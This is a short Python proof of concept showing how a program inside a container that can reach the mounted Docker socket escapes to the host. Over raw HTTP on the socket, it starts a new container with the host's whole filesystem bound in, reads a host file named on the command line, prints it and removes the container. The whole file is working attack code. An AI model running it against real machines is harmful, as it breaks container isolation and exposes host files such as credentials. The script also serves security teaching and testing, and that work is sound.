"""What a program can do that finds the engine's socket in its container.

It has no docker command, no privileges and no way to the machine's files. It asks the
engine, by plain HTTP over the socket, to start another container that has the
machine's whole disk in it, and reads a file of the machine there.
"""

import http.client
import json
import socket
import sys

SOCKET = "/var/run/docker.sock"


def ask(method, path, body=None):
    connection = http.client.HTTPConnection("docker")
    connection.sock = socket.socket(socket.AF_UNIX)
    connection.sock.connect(SOCKET)
    headers = {"Content-Type": "application/json"}
    connection.request(method, path, json.dumps(body) if body else None, headers)
    answer = connection.getresponse()
    return answer.status, answer.read()


def main():
    image, path = sys.argv[1:]
    _, listed = ask("GET", "/containers/json")
    names = [container["Names"][0] for container in json.loads(listed)]
    print("what runs here?     ", len(names), "containers, me among them")
    wanted = {
        "Image": image,
        "Cmd": ["cat", f"/machine{path}"],
        "HostConfig": {"Binds": ["/:/machine:ro"]},
    }
    _, made = ask("POST", "/containers/create", wanted)
    name = json.loads(made)["Id"]
    ask("POST", f"/containers/{name}/start")
    ask("POST", f"/containers/{name}/wait")
    _, printed = ask("GET", f"/containers/{name}/logs?stdout=1")
    ask("DELETE", f"/containers/{name}?force=1")
    # Each piece of output comes behind eight bytes: which stream, and how long.
    print(f"the machine's {path}:", printed[8:].decode().strip())


main()
